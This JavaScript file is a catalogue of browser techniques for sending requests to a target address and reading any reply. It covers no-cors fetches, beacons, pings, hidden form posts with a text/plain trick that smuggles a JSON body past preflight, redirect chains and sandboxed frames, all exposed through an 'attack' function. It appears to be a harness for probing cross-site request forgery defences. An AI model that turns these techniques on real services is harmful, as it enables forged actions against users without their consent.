/**
 * What a page in a browser can send to an address without being asked, and what it can read of the answer. It runs in the
 * page, in frames and in documents without an origin, and needs nothing but itself.
 *
 * @typedef {object} Aim
 * @property {string} url what is attacked
 * @property {string} own where the page came from: it redirects and reports from there
 * @property {string} json a body that the attacked would obey
 * @property {string} token what its control asks for, in the hands of whoever attacks
 *
 * @typedef {(aim: Aim) => Promise<string>} Way resolves with what could be read
 */

/** @param {(end: () => void) => void} begin @returns {Promise<void>} */
const until = (begin) => new Promise((resolve) => begin(() => resolve()));

/**
 * Puts an element into the page, and waits until it has loaded or failed.
 * @template {keyof HTMLElementTagNameMap} Name
 * @param {Name} name
 * @param {Partial<HTMLElementTagNameMap[Name]>} properties
 */
async function load(name, properties) {
  const element = Object.assign(document.createElement(name), properties);
  await until((end) => {
    for (const event of ["load", "error", "loadedmetadata"]) element.addEventListener(event, end, { once: true });
    document.body.append(element);
  });
  return element;
}

/** What of a frame's document can be read from outside. @param {HTMLIFrameElement} frame */
function readFrame(frame) {
  return frame.contentDocument?.documentElement.outerHTML ?? "";
}

/** @param {Aim} aim @param {{ method: string, enctype: string }} form @param {Record<string, string>} fields */
async function submit({ url }, { method, enctype }, fields) {
  const name = `frame${Math.random()}`;
  const frame = await load("iframe", { name, srcdoc: "" });
  const form = Object.assign(document.createElement("form"), { action: url, method, enctype, target: name });
  for (const [key, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("input"), { type: "hidden", name: key, value }));
  }
  document.body.append(form);
  await until((end) => {
    frame.addEventListener("load", end, { once: true });
    form.submit();
  });
  return readFrame(frame);
}

/** The body as the one field of a form: as text/plain it is JSON again, but for what the equals sign stands in. @param {string} json */
const asField = (json) => ({ [`${json.slice(0, -1)}${json === "{}" ? "" : ","}"x":"`]: '"}' });

/** @param {string} url @param {RequestInit} init */
const read = async (url, init) => (await fetch(url, init)).text();

/** @param {Aim} aim @param {number} status */
const redirect = ({ own, url }, status) => `${own}/redirect?status=${status}&to=${encodeURIComponent(url)}`;

/** @type {Record<string, Way>} */
const ways = {
  "fetch by GET": ({ url }) => read(url, { mode: "no-cors" }),
  "fetch by GET to read": ({ url }) => read(url, {}),
  "fetch by HEAD": ({ url }) => read(url, { method: "HEAD", mode: "no-cors" }),
  "fetch by POST of text": ({ url, json }) => read(url, { method: "POST", mode: "no-cors", body: json }),
  "fetch by POST of a form": ({ url, json }) =>
    read(url, { method: "POST", mode: "no-cors", body: new URLSearchParams(JSON.parse(json)) }),
  "fetch by POST of parts": ({ url, json }) => {
    const parts = new FormData();
    parts.append("json", new Blob([json], { type: "application/json" }), "body.json");
    return read(url, { method: "POST", mode: "no-cors", body: parts });
  },
  "fetch by POST of JSON": ({ url, json }) =>
    read(url, { method: "POST", headers: { "content-type": "application/json" }, body: json }),
  "fetch by POST of JSON without a content type's preflight": ({ url, json }) =>
    read(url, { method: "POST", mode: "no-cors", headers: { "content-type": "application/json" }, body: json }),
  "fetch with the token": ({ url, json, token }) =>
    read(url, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
      body: json,
    }),
  "fetch by PUT": ({ url, json }) => read(url, { method: "PUT", body: json }),
  "fetch by DELETE": ({ url }) => read(url, { method: "DELETE" }),
  "fetch that outlives the page": ({ url, json }) =>
    read(url, { method: "POST", mode: "no-cors", keepalive: true, body: json }),
  "fetch without a referrer": ({ url, json }) =>
    read(url, { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", credentials: "omit", body: json }),
  XMLHttpRequest: async ({ url, json }) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    await until((end) => {
      request.addEventListener("loadend", end);
      request.send(json);
    });
    return request.responseText;
  },
  beacon: async ({ url, json }) => {
    navigator.sendBeacon(url, json);
    return "";
  },
  "beacon of a form": async ({ url, json }) => {
    navigator.sendBeacon(url, new URLSearchParams(JSON.parse(json)));
    return "";
  },
  "beacon of JSON": async ({ url, json }) => {
    navigator.sendBeacon(url, new Blob([json], { type: "application/json" }));
    return "";
  },
  "ping of a link": async ({ own, url }) => {
    const name = `frame${Math.random()}`;
    await load("iframe", { name, srcdoc: "" });
    const link = Object.assign(document.createElement("a"), { href: `${own}/nothing`, target: name, ping: url });
    document.body.append(link);
    link.click();
    return "";
  },
  EventSource: async ({ url }) => {
    const source = new EventSource(url);
    let said = "";
    source.addEventListener("message", ({ data }) => {
      said += data;
    });
    await until((end) => {
      source.addEventListener("open", end);
      source.addEventListener("error", end);
    });
    source.close();
    return said;
  },
  WebSocket: async ({ url }) => {
    const socket = new WebSocket(url.replace(/^http/, "ws"));
    let said = "";
    socket.addEventListener("message", ({ data }) => {
      said += data;
    });
    await until((end) => {
      socket.addEventListener("open", end);
      socket.addEventListener("close", end);
    });
    socket.close();
    return said;
  },
  image: async ({ url }) => {
    const image = await load("img", { src: url });
    return image.naturalWidth > 0 ? `${image.naturalWidth} pixels` : "";
  },
  "image to read": async ({ url }) => {
    const image = await load("img", { crossOrigin: "anonymous", src: url });
    return image.naturalWidth > 0 ? `${image.naturalWidth} pixels` : "";
  },
  script: async ({ url }) => {
    let said = "";
    window.onerror = (message) => {
      said = String(message);
      return true;
    };
    await load("script", { src: url });
    window.onerror = null;
    return said === "Script error." ? "" : said;
  },
  "module script": async ({ url }) => {
    await load("script", { type: "module", src: url });
    return "";
  },
  stylesheet: async ({ url }) => {
    const link = await load("link", { rel: "stylesheet", href: url });
    return link.sheet === null ? "" : String(link.sheet.href === url ? "" : link.sheet.href);
  },
  "image of a style": async ({ url }) => {
    document.body.append(
      Object.assign(document.createElement("p"), { style: `background: url("${url}")`, textContent: "x" }),
    );
    return "";
  },
  font: ({ url }) =>
    new FontFace("theirs", `url("${url}")`).load().then(
      () => "a font",
      () => "",
    ),
  video: async ({ url }) => {
    await load("video", { src: url, preload: "auto" });
    return "";
  },
  object: async ({ url }) => {
    await load("object", { data: url, type: "text/html" });
    return "";
  },
  embed: async ({ url }) => {
    await load("embed", { src: url, type: "text/html" });
    return "";
  },
  prefetch: async ({ url }) => {
    await load("link", { rel: "prefetch", href: url });
    return "";
  },
  preload: async ({ url }) => {
    await load("link", { rel: "preload", as: "script", href: url });
    return "";
  },
  modulepreload: async ({ url }) => {
    await load("link", { rel: "modulepreload", href: url });
    return "";
  },
  frame: async ({ url }) => readFrame(await load("iframe", { src: url })),
  "frame without an origin": async ({ url }) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts allow-forms");
    frame.src = url;
    await until((end) => {
      frame.addEventListener("load", end, { once: true });
      document.body.append(frame);
    });
    return readFrame(frame);
  },
  "form by GET": (aim) =>
    submit(aim, { method: "GET", enctype: "" }, { way: new URL(aim.url).searchParams.get("way") ?? "" }),
  "form of text": (aim) => submit(aim, { method: "POST", enctype: "text/plain" }, asField(aim.json)),
  "form urlencoded": (aim) =>
    submit(aim, { method: "POST", enctype: "application/x-www-form-urlencoded" }, JSON.parse(aim.json)),
  "form of parts": (aim) => submit(aim, { method: "POST", enctype: "multipart/form-data" }, JSON.parse(aim.json)),
  "form that is redirected": async (aim) =>
    submit({ ...aim, url: redirect(aim, 307) }, { method: "POST", enctype: "text/plain" }, asField(aim.json)),
  "fetch that is redirected": (aim) => read(redirect(aim, 308), { method: "POST", mode: "no-cors", body: aim.json }),
  "fetch that is redirected, to read": (aim) => read(redirect(aim, 302), {}),
  "image that is redirected": async (aim) => {
    await load("img", { src: redirect(aim, 302) });
    return "";
  },
  "frame that is redirected": async (aim) => readFrame(await load("iframe", { src: redirect(aim, 302) })),
  "a new tab": async ({ url }) => {
    window.open(url);
    return "";
  },
  "a tab that goes there": async ({ own, url }) => {
    window.open(`${own}/refresh?to=${encodeURIComponent(url)}`);
    return "";
  },
  "report of a policy": async ({ own, url }) => {
    await load("iframe", { src: `${own}/report?to=${encodeURIComponent(url)}` });
    return "";
  },
  worker: async ({ url }) => {
    const text = `try { importScripts(${JSON.stringify(url)}); postMessage("ran"); } catch { postMessage(""); }`;
    const worker = new Worker(URL.createObjectURL(new Blob([text])));
    let said = "";
    await until((end) => {
      worker.addEventListener("message", ({ data }) => {
        said = data;
        end();
      });
      worker.addEventListener("error", end);
    });
    return said;
  },
  "service worker": async ({ own, url, json }) => {
    // Only where the page itself is on this machine: elsewhere a browser has none for a page without TLS.
    const registration = await navigator.serviceWorker.register(`${own}/service-worker.js`);
    await navigator.serviceWorker.ready;
    const channel = new MessageChannel();
    let said = "";
    await until((end) => {
      channel.port1.onmessage = ({ data }) => {
        said = data;
        end();
      };
      registration.active?.postMessage({ url, json }, [channel.port2]);
    });
    await registration.unregister();
    return said;
  },
};

/** Goes one way. @param {string} name @param {Aim} aim what could be read; `null` where the browser has no such way here */
async function attack(name, aim) {
  try {
    return (await ways[name]?.(aim)) ?? "";
  } catch {
    return "";
  }
}

Object.assign(window, { attack, ways: Object.keys(ways) });
